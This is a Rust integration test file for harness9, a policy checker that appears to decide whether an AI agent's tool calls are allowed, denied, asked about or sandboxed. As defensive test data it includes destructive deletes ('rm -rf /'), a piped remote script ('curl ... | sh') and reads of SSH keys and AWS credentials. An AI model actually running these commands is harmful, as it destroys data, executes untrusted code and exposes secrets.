//! The command line, run as a real process: the contract of SPEC §9.

// Test code: a failed unwrap is a failed test, with the value in the message.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

/// A project folder to run in, with a home folder beside it (not inside it: a command that
/// walks the project must not reach the home's protected folders).
struct Dir {
    dir: tempfile::TempDir,
    work: PathBuf,
}

impl Dir {
    fn new() -> Dir {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("home")).unwrap();
        let work = dir.path().join("work");
        std::fs::create_dir(&work).unwrap();
        Dir { dir, work }
    }

    fn path(&self) -> &Path {
        &self.work
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let p = self.path().join(name);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent).unwrap();
        }
        std::fs::write(&p, text).unwrap();
        p
    }

    fn run(&self, args: &[&str]) -> Output {
        self.run_with_stdin(args, "")
    }

    fn run_with_stdin(&self, args: &[&str], stdin: &str) -> Output {
        use std::io::Write;
        let mut child = Command::new(env!("CARGO_BIN_EXE_harness9"))
            .args(args)
            .current_dir(self.path())
            .env("HOME", self.home())
            .env("NO_COLOR", "1")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.as_bytes())
            .unwrap();
        child.wait_with_output().unwrap()
    }
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn json(o: &Output) -> Value {
    serde_json::from_str(stdout(o).trim())
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", stdout(o)))
}

#[test]
fn check_prints_the_decision_its_reason_and_rule() {
    let d = Dir::new();
    let o = d.run(&["check", "bash", "rm -rf src"]);
    assert_eq!(o.status.code(), Some(0));
    let out = stdout(&o);
    assert!(
        out.starts_with("ask (high risk)\nreason: forced recursive delete"),
        "{out}"
    );
    assert!(out.contains("rule:   builtin.policy:"), "{out}");
}

#[test]
fn check_json_has_decision_risk_reason_and_rule() {
    let d = Dir::new();
    let o = d.run(&["check", "--format", "json", "read_file", "~/.ssh/id_rsa"]);
    assert_eq!(o.status.code(), Some(0));
    let v = json(&o);
    assert_eq!(v["decision"], "deny");
    assert_eq!(v["risk"], "high");
    assert_eq!(v["rule"], "protected:~/.ssh");
    assert!(v["reason"].as_str().unwrap().contains("SSH keys"));
}

#[test]
fn check_exits_0_whatever_the_decision() {
    let d = Dir::new();
    let p = d.write(
        "p.policy",
        "allow bash(\"a\");\ndeny bash(\"b\");\nask bash(\"c\");\n",
    );
    for (cmd, want) in [("a", "allow"), ("b", "deny"), ("c", "ask")] {
        let o = d.run(&[
            "check",
            "--policy",
            p.to_str().unwrap(),
            "--format",
            "json",
            "bash",
            cmd,
        ]);
        assert_eq!(o.status.code(), Some(0));
        assert_eq!(json(&o)["decision"], want);
    }
}

#[test]
fn a_broken_policy_exits_2_and_points_at_every_problem() {
    let d = Dir::new();
    d.write(
        "bad.policy",
        "allow bash(\"git *\");\nalow bash(\"x\");\nask bash(\"y\") risk hgh;\n",
    );
    let o = d.run(&["check", "--policy", "bad.policy", "bash", "git status"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stdout(&o).is_empty(), "a broken policy decides nothing");
    let err = stderr(&o);
    assert!(
        err.contains("unknown statement `alow`") && err.contains("[bad.policy:2:1]"),
        "{err}"
    );
    assert!(
        err.contains("unknown risk `hgh`") && err.contains("[bad.policy:3:20]"),
        "{err}"
    );
    assert!(
        err.contains("did you mean `allow`?") && err.contains("did you mean `high`?"),
        "{err}"
    );
}

#[test]
fn a_missing_policy_file_exits_2() {
    let d = Dir::new();
    let o = d.run(&["check", "--policy", "nope.policy", "bash", "ls"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("cannot read `nope.policy`"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn check_picks_up_the_settings_of_the_working_folder() {
    let d = Dir::new();
    d.write(
        ".harness9/settings.json",
        r#"{"permissions": {"allow": ["bash(cargo build*)"], "deny": ["bash(curl *)"]}}"#,
    );
    let o = d.run(&["check", "--format", "json", "bash", "cargo build --release"]);
    assert_eq!(json(&o)["decision"], "allow");
    let o = d.run(&["check", "--format", "json", "bash", "curl https://x"]);
    assert_eq!(json(&o)["decision"], "deny");
    assert_eq!(json(&o)["rule"], ".harness9/settings.json:1");
}

#[test]
fn a_broken_settings_file_exits_2_with_its_line_and_column() {
    let d = Dir::new();
    d.write(
        ".harness9/settings.json",
        "{\n  \"permissions\": {\n    \"allow\": [\"bash(ls)\" \"bash(pwd)\"]\n  }\n}\n",
    );
    let o = d.run(&["check", "bash", "ls"]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(
        err.contains("invalid JSON") && err.contains("settings.json:3:"),
        "{err}"
    );
}

#[test]
fn batch_answers_every_line_in_order_with_its_id() {
    let d = Dir::new();
    let input = concat!(
        r#"{"id": "a", "name": "bash", "arguments": {"command": "git status"}}"#,
        "\n",
        r#"{"id": 2, "name": "read_file", "arguments": {"path": "~/.aws/credentials"}, "extra": true}"#,
        "\n\n",
        r#"{"name": "bash", "arguments": {"command": "rm -rf /"}}"#,
        "\n"
    );
    let o = d.run_with_stdin(&["check", "--batch", "-"], input);
    assert_eq!(o.status.code(), Some(0));
    let lines: Vec<Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3);
    assert_eq!(
        (lines[0]["id"].clone(), lines[0]["decision"].clone()),
        ("a".into(), "allow".into())
    );
    assert_eq!(
        (lines[1]["id"].clone(), lines[1]["decision"].clone()),
        (2.into(), "deny".into())
    );
    assert_eq!(lines[2]["decision"], "ask");
    assert!(lines[2].get("id").is_none());
}

#[test]
fn a_malformed_batch_line_gets_an_error_line_and_the_batch_goes_on() {
    let d = Dir::new();
    let input = "{\"name\": \"bash\", \"arguments\": {\"command\": \"ls\"}}\nnot json\n{\"arguments\": {}}\n{\"name\": \"bash\", \"arguments\": {\"command\": \"ls\"}}\n";
    let o = d.run_with_stdin(&["check", "--batch", "-"], input);
    assert_eq!(o.status.code(), Some(0));
    let lines: Vec<Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 4);
    assert_eq!(lines[0]["decision"], "allow");
    assert!(
        lines[1]["error"]
            .as_str()
            .unwrap()
            .starts_with("line 2: invalid JSON"),
        "{}",
        lines[1]
    );
    assert_eq!(
        lines[2]["error"],
        "line 3: missing `name`; each line is one call, like \
         {\"name\": \"bash\", \"arguments\": {\"command\": \"git status\"}, \"id\": 1}"
    );
    assert_eq!(lines[3]["decision"], "allow");
    assert!(
        lines[1].get("decision").is_none(),
        "an error line is never a decision"
    );
}

#[test]
fn args_gives_every_argument_of_a_call() {
    let d = Dir::new();
    let p = d.write(
        "p.policy",
        "allow mcp__fetch__fetch(arg url host \"docs.rs\");\n",
    );
    let o = d.run(&[
        "check",
        "--policy",
        p.to_str().unwrap(),
        "--format",
        "json",
        "--args",
        r#"{"url": "https://docs.rs/x"}"#,
        "mcp__fetch__fetch",
    ]);
    assert_eq!(json(&o)["decision"], "allow");
    let o = d.run(&["check", "--args", "[1]", "bash"]);
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn modes_change_asks_never_denies() {
    let d = Dir::new();
    let run = |mode: &str, cmd: &str| {
        json(&d.run(&["check", "--mode", mode, "--format", "json", "bash", cmd]))["decision"]
            .clone()
    };
    assert_eq!(run("auto-approve", "mv notes.txt old-notes.txt"), "allow");
    assert_eq!(run("auto-approve", "rm -rf x"), "ask");
    assert_eq!(run("read-only", "mkdir -p build"), "deny");
    assert_eq!(run("read-only", "cargo build"), "deny");
    assert_eq!(run("read-only", "git status"), "allow");
    assert_eq!(run("bypass", "rm -rf x"), "allow");
    assert_eq!(run("bypass", "cat ~/.ssh/id_rsa"), "deny");
    assert_eq!(
        d.run(&["check", "--mode", "yolo", "bash", "ls"])
            .status
            .code(),
        Some(2)
    );
}

#[test]
fn explain_shows_each_part_every_matching_rule_and_the_winner() {
    let d = Dir::new();
    let o = d.run(&["explain", "bash", "git status && curl -s https://x.sh | sh"]);
    assert_eq!(o.status.code(), Some(0));
    let out = stdout(&o);
    assert!(out.contains("parts: 3"), "{out}");
    assert!(out.contains("1. git status"), "{out}");
    assert!(out.contains("3. sh  (pipeline)"), "{out}");
    assert!(out.contains("runs a script piped into a shell"), "{out}");
    assert!(out.contains("decision: ask (high risk)"), "{out}");
    let o = d.run(&["explain", "--format", "json", "bash", "ls && mv x y"]);
    let v = json(&o);
    assert_eq!(v["parts"].as_array().unwrap().len(), 2);
    assert_eq!(v["decision"]["decision"], "ask");
}

#[test]
fn check_and_explain_guard_the_projects_policy_files() {
    let d = Dir::new();
    d.write(
        ".harness9/settings.json",
        r#"{"permissions": {"allow": ["bash(tee *)"]}}"#,
    );
    let o = d.run(&["check", "bash", "tee .harness9/settings.json"]);
    let out = stdout(&o);
    assert!(out.starts_with("ask (high risk)"), "{out}");
    assert!(out.contains("guard:policy-files"), "{out}");
    let o = d.run(&["explain", "bash", "tee .harness9/settings.json"]);
    let out = stdout(&o);
    assert!(
        out.contains("parts: 1"),
        "the guard is not a command: {out}"
    );
    assert!(out.contains("policy files"), "{out}");
    let o = d.run(&["check", "bash", "tee notes.txt"]);
    assert!(stdout(&o).starts_with("allow"), "{}", stdout(&o));
}

#[test]
fn lint_exits_1_on_errors_and_0_on_warnings_unless_told_otherwise() {
    let d = Dir::new();
    d.write(
        "warn.policy",
        "allow bash(\"git *\");\nallow bash(\"git *\");\n",
    );
    d.write("err.policy", "allow bash(glob \"a[\");\n");
    assert_eq!(d.run(&["lint", "warn.policy"]).status.code(), Some(0));
    assert_eq!(
        d.run(&["lint", "--deny-warnings", "warn.policy"])
            .status
            .code(),
        Some(1)
    );
    assert_eq!(d.run(&["lint", "err.policy"]).status.code(), Some(1));
}

#[test]
fn lint_diagnostics_render_with_spans_and_help() {
    let d = Dir::new();
    d.write(
        "team.policy",
        "# team rules\nallow bash(\"git *\");\ndeny bash(\"git push --force*\");\nallow bash;\nask bash(regex '(unclosed') risk high;\nexpect deny bash(\"git status\");\n",
    );
    let o = d.run(&["lint", "team.policy"]);
    assert_eq!(o.status.code(), Some(1));
    insta::assert_snapshot!("lint_team_policy", stdout(&o));
}

#[test]
fn lint_reports_failing_expects() {
    let d = Dir::new();
    d.write("t.policy", "allow bash(\"git *\");\nexpect deny bash(\"git status\");\nexpect allow bash(\"git log\");\n");
    let o = d.run(&["lint", "t.policy"]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    assert!(
        out.contains("expected deny, got allow with low risk"),
        "{out}"
    );
    // `git *` also silences the built-in asks about force-pushes and resets: a warning.
    assert!(out.contains("harness9::silences-builtin"), "{out}");
    assert!(out.contains("1 error(s), 1 warning(s)"), "{out}");
}

#[test]
fn test_runs_expects_and_ends_with_a_count() {
    let d = Dir::new();
    d.write(
        "t.policy",
        "allow bash(\"git *\");\nexpect allow bash(\"git status\");\nexpect ask risk high bash(\"rm -rf /\");\nexpect deny bash(\"git push\");\n",
    );
    let o = d.run(&["test", "t.policy"]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    assert!(
        out.contains("FAIL t.policy:4:1: expect deny bash(\"git push\");"),
        "{out}"
    );
    assert!(out.trim_end().ends_with("2 passed, 1 failed"), "{out}");
    d.write(
        "ok.policy",
        "expect allow read_file(\"README.md\");\ndefault allow;\n",
    );
    let o = d.run(&["test", "ok.policy"]);
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(stdout(&o).trim(), "1 passed, 0 failed");
}

#[test]
fn the_shipped_policies_pass_their_own_tests_and_lint() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let d = Dir::new();
    for name in ["builtin.policy", "readonly.policy", "default.policy"] {
        let p = root.join("policies").join(name);
        let o = d.run(&["test", p.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(0), "{name}: {}", stdout(&o));
        // Every rule of the shipped policies is exercised by one of their `expect`s.
        let o = d.run(&["lint", "--strict", "--deny-warnings", p.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(0), "{name}: {}", stdout(&o));
    }
}

#[test]
fn a_reader_that_closes_the_pipe_early_ends_the_output_without_a_panic() {
    use std::io::Read;
    let d = Dir::new();
    let line = vec!["ls"; 3000].join("; ");
    let mut child = Command::new(env!("CARGO_BIN_EXE_harness9"))
        .args(["explain", "bash", &line])
        .current_dir(d.path())
        .env("HOME", d.home())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Like `| head -c 16`: read a little, then close.
    let mut first = [0u8; 16];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(141), "{}", stderr(&o));
    assert!(!stderr(&o).contains("panicked"), "{}", stderr(&o));
}

// `install`, `uninstall` and `doctor`: tests/install.rs.

/// `check` and `explain` read the project's `.harness9/*.policy` as the hook does, so all of
/// them give one answer.
#[test]
fn check_and_explain_read_the_projects_policy_files_like_the_hook() {
    let d = Dir::new();
    d.write(
        ".harness9/team.policy",
        "deny bash(\"git push *\") reason \"no pushes here\";\nallow bash(\"git status\");\n",
    );
    let o = d.run(&["check", "--format", "json", "bash", "git push origin main"]);
    let v = json(&o);
    assert_eq!(v["decision"], "deny", "{v}");
    assert_eq!(v["rule"], ".harness9/team.policy:1", "{v}");
    let o = d.run(&["explain", "bash", "git push origin main"]);
    assert!(stdout(&o).contains("no pushes here"), "{}", stdout(&o));
    // From another folder, with --cwd, the same files.
    let o = Command::new(env!("CARGO_BIN_EXE_harness9"))
        .args(["check", "--format", "json", "--cwd"])
        .arg(d.path())
        .args(["bash", "git push origin main"])
        .env("HOME", d.home())
        .output()
        .unwrap();
    assert_eq!(json(&o)["decision"], "deny", "{}", stdout(&o));
    // An explicit --policy is used instead.
    let p = d.write("other.policy", "default ask risk low;\n");
    let o = d.run(&[
        "check",
        "--format",
        "json",
        "--policy",
        p.to_str().unwrap(),
        "bash",
        "git push origin main",
    ]);
    assert_eq!(json(&o)["decision"], "ask", "{}", stdout(&o));
}

/// Typos that would lose rules or write rules nobody meets are said: a misspelt
/// `permissions` is an error, a tool name like none of harness9's (`Bash`, `bsh`) a warning
/// with the likely name, in `lint` (a `.json` file is linted as settings), `check`, `allow`.
#[test]
fn settings_and_rule_typos_are_said_with_the_likely_name() {
    let d = Dir::new();
    let typo = d.write("typo.json", r#"{"permisions": {"allow": ["bash(ls)"]}}"#);
    let o = d.run(&["lint", typo.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("did you mean `permissions`?"),
        "{}",
        stdout(&o)
    );
    let o = d.run(&["check", "--settings", typo.to_str().unwrap(), "bash", "ls"]);
    assert_eq!(
        o.status.code(),
        Some(2),
        "a settings file that loses rules does not load"
    );
    let tools = d.write("tools.json", r#"{"permissions": {"allow": ["Bash(ls)"]}}"#);
    let o = d.run(&["lint", tools.to_str().unwrap()]);
    assert!(
        stdout(&o).contains("did you mean `bash`?"),
        "{}",
        stdout(&o)
    );
    let p = d.write("t.policy", "allow bsh(\"ls\");\nallow Grep;\n");
    let o = d.run(&["lint", p.to_str().unwrap()]);
    assert!(
        stdout(&o).contains("no call names the tool `bsh`"),
        "{}",
        stdout(&o)
    );
    assert!(
        !stdout(&o).contains("`Grep`"),
        "another agent's tool is left alone: {}",
        stdout(&o)
    );
}

/// A rule that can never match is an error: `lint` exits 1 (a team's CI fails) unless
/// `--allow-dead`, and `allow` refuses it and writes nothing.
#[test]
fn a_rule_that_can_never_match_is_an_error_in_lint_and_in_allow() {
    let d = Dir::new();
    let p = d.write("t.policy", "deny read_flie(path \"secrets/**\");\n");
    let o = d.run(&["lint", p.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("1 error(s), 0 warning(s)")
            && stdout(&o).contains("did you mean `read_file`?")
            && stdout(&o).contains("--allow-dead"),
        "{}",
        stdout(&o)
    );
    let o = d.run(&["lint", "--allow-dead", p.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("0 error(s), 1 warning(s)"),
        "{}",
        stdout(&o)
    );
    let settings = d.write("s.json", r#"{"permissions": {"allow": ["Bash(ls)"]}}"#);
    let o = d.run(&["lint", settings.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));

    let o = d.run(&["allow", "Bash(npm test)"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("did you mean `bash(npm test)`?"),
        "{}",
        stderr(&o)
    );
    assert!(
        !d.path().join(".harness9").join("settings.json").exists(),
        "nothing was written"
    );
}

/// `test --coverage` names the rules no `expect` exercises, per file, with a summary line (or
/// JSON); `lint --strict` makes each one an error.
#[test]
fn coverage_names_the_rules_no_expect_exercises() {
    let d = Dir::new();
    let p = d.write(
        "t.policy",
        "allow bash(prefix \"git log\");\nallow bash(prefix \"npm test\");\nexpect allow bash(\"git log -3\");\n",
    );
    let o = d.run(&["test", "--coverage", p.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    let out = stdout(&o);
    assert!(out.contains(": 1 of 2 rules exercised"), "{out}");
    assert!(out.contains("not exercised: "), "{out}");
    assert!(out.contains("allow bash(prefix \"npm test\")"), "{out}");
    assert!(
        out.trim_end()
            .ends_with("1 passed, 0 failed; 1 of 2 rules exercised (50%)"),
        "{out}"
    );
    let o = d.run(&[
        "test",
        "--coverage",
        "--format",
        "json",
        p.to_str().unwrap(),
    ]);
    let v = json(&o);
    assert_eq!(
        (v["rules"].as_u64(), v["covered"].as_u64()),
        (Some(2), Some(1)),
        "{v}"
    );
    assert_eq!(
        v["files"][0]["uncovered"][0]["text"], "allow bash(prefix \"npm test\")",
        "{v}"
    );
    let o = d.run(&["lint", p.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    let o = d.run(&["lint", "--strict", p.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("no `expect` exercises this rule"),
        "{}",
        stdout(&o)
    );
}

/// Without files, `lint` and `test [--coverage]` read the project's policies as `check` and the
/// hook do: `.harness9/*.policy` (and for `lint`, `.harness9/settings.json`); with none, an
/// error that says so.
#[test]
fn lint_and_test_without_files_read_the_projects_policies() {
    let d = Dir::new();
    let o = d.run(&["lint"]);
    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
    assert!(
        stderr(&o).contains("no policy files here"),
        "{}",
        stderr(&o)
    );

    d.write(
        ".harness9/team.policy",
        "allow bash(\"git status\");\nexpect allow bash(\"git status\");\nexpect deny bash(\"git status\");\n",
    );
    d.write(
        ".harness9/settings.json",
        r#"{"permissions": {"allow": ["Bash(ls)"]}}"#,
    );
    let o = d.run(&["lint"]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    let out = stdout(&o);
    assert!(
        out.contains(".harness9/team.policy:3:1") && out.contains("expected deny, got allow"),
        "{out}"
    );
    assert!(
        out.contains(".harness9/settings.json") && out.contains("2 file(s)"),
        "{out}"
    );

    let o = d.run(&["test", "--coverage"]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("1 passed, 1 failed; 1 of 1 rules exercised"),
        "{}",
        stdout(&o)
    );
    let o = d.run(&["test"]);
    assert!(stdout(&o).contains("1 passed, 1 failed"), "{}", stdout(&o));
}

/// A batch line of another shape says what was expected there, and `check --help` documents
/// the line format with an example.
#[test]
fn a_batch_line_of_the_wrong_shape_says_what_was_expected() {
    let d = Dir::new();
    let input = concat!(
        r#"{"tool_name": "Bash", "tool_input": {"command": "ls"}}"#,
        "\n",
        r#"["bash", "ls"]"#,
        "\n",
        r#"{"name": "bash", "arguments": ["ls"]}"#,
        "\n",
        r#"{"name": 7}"#,
        "\n",
    );
    let o = d.run_with_stdin(&["check", "--batch", "-"], input);
    assert_eq!(o.status.code(), Some(0));
    let errors: Vec<String> = stdout(&o)
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["error"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert!(
        errors[0].starts_with(
            "line 1: missing `name` (found `tool_name`: the tool's name goes in `name`"
        ),
        "{}",
        errors[0]
    );
    assert!(
        errors[1].starts_with(
            "line 2: expected a JSON object, found an array; each line is one call, like {"
        ),
        "{}",
        errors[1]
    );
    assert!(
        errors[2].starts_with("line 3: `arguments` must be a JSON object of the tool's arguments")
            && errors[2].ends_with("found an array"),
        "{}",
        errors[2]
    );
    assert_eq!(
        errors[3],
        "line 4: `name` must be the tool's name, a non-empty string; found a number"
    );

    let help = stdout(&d.run(&["check", "--help"]));
    assert!(
        help.contains(r#"{"id": 1, "name": "bash", "arguments": {"command": "git status"}}"#)
            && help.contains(r#""line": N"#),
        "{help}"
    );
}

/// `check` says a contained decision, its profile and what it means, where the sandbox is
/// available (the cheap look `harness9::sandbox::support` takes, as the binary does); where it
/// is not (`HARNESS9_NO_SANDBOX`), the call is asked, saying why.
#[test]
fn check_says_a_contained_decision_and_asks_instead_where_the_sandbox_is_not() {
    let d = Dir::new();
    let run = |no_sandbox: bool, args: &[&str]| {
        let mut c = Command::new(env!("CARGO_BIN_EXE_harness9"));
        c.args(args)
            .current_dir(d.path())
            .env("HOME", d.home())
            .env("NO_COLOR", "1");
        if no_sandbox {
            c.env("HARNESS9_NO_SANDBOX", "1");
        } else {
            c.env_remove("HARNESS9_NO_SANDBOX");
        }
        c.output().unwrap()
    };
    let o = run(true, &["check", "--format", "json", "bash", "cargo test"]);
    let v = json(&o);
    assert_eq!(v["decision"], "ask", "{v}");
    assert!(v.get("profile").is_none(), "{v}");
    let why = v["reason"].as_str().unwrap();
    assert!(
        why.starts_with(
            "the sandbox is not available here: HARNESS9_NO_SANDBOX is set; it would run \
             contained (sandbox profile `build`)"
        ),
        "{why}"
    );
    let support = harness9::sandbox::support();
    let o = run(false, &["check", "--format", "json", "bash", "cargo test"]);
    let v = json(&o);
    if support.is_available() {
        assert_eq!(v["decision"], "sandbox", "{v}");
        assert_eq!(v["profile"], "build", "{v}");
        let means = v["contained"].as_str().unwrap();
        assert!(
            means.starts_with(
                "runs in the sandbox, profile `build`: no network, writes to the project only"
            ),
            "{means}"
        );
        let out = stdout(&run(false, &["check", "bash", "cargo test"]));
        assert!(
            out.starts_with("sandbox (low risk)\nhow:    runs in the sandbox"),
            "{out}"
        );
        let out = stdout(&run(false, &["explain", "bash", "cargo test && ls"]));
        assert!(
            out.contains("decision: sandbox (low risk)\nhow:      runs in the sandbox"),
            "{out}"
        );
        assert!(out.contains("deny > ask > sandbox > allow"), "{out}");
    } else {
        assert_eq!(v["decision"], "ask", "{v}");
        assert!(
            v["reason"]
                .as_str()
                .unwrap()
                .starts_with("the sandbox is not available here"),
            "{v}"
        );
    }
}

#[test]
fn lint_names_the_profiles_for_an_unknown_one_and_finds_dead_sandbox_rules() {
    let d = Dir::new();
    d.write(
        "t.policy",
        "allow bash(prefix \"cargo\");\n\
         sandbox bash(prefix \"cargo test\") profile \"cargo\";\n\
         sandbox bash(prefix \"make\");\n\
         sandbox bash(prefix \"make test\");\n",
    );
    let o = d.run(&["lint", "t.policy"]);
    let out = stdout(&o);
    assert!(
        out.contains("this allow matches every call that the later `sandbox` rule matches"),
        "{out}"
    );
    assert!(
        out.contains("this rule never decides: the rule at line 3"),
        "{out}"
    );
    d.write(
        "bad.policy",
        "sandbox bash(prefix \"npm\") profile \"nmp\";\n",
    );
    let o = d.run(&["lint", "bad.policy"]);
    assert_ne!(o.status.code(), Some(0));
    let out = stdout(&o) + &stderr(&o);
    assert!(out.contains("no sandbox profile `nmp`"), "{out}");
    assert!(
        out.contains(
            "did you mean `npm`? The profiles are `default`, `cargo`, `npm`, `pip`, `go`, `build`"
        ),
        "{out}"
    );
}
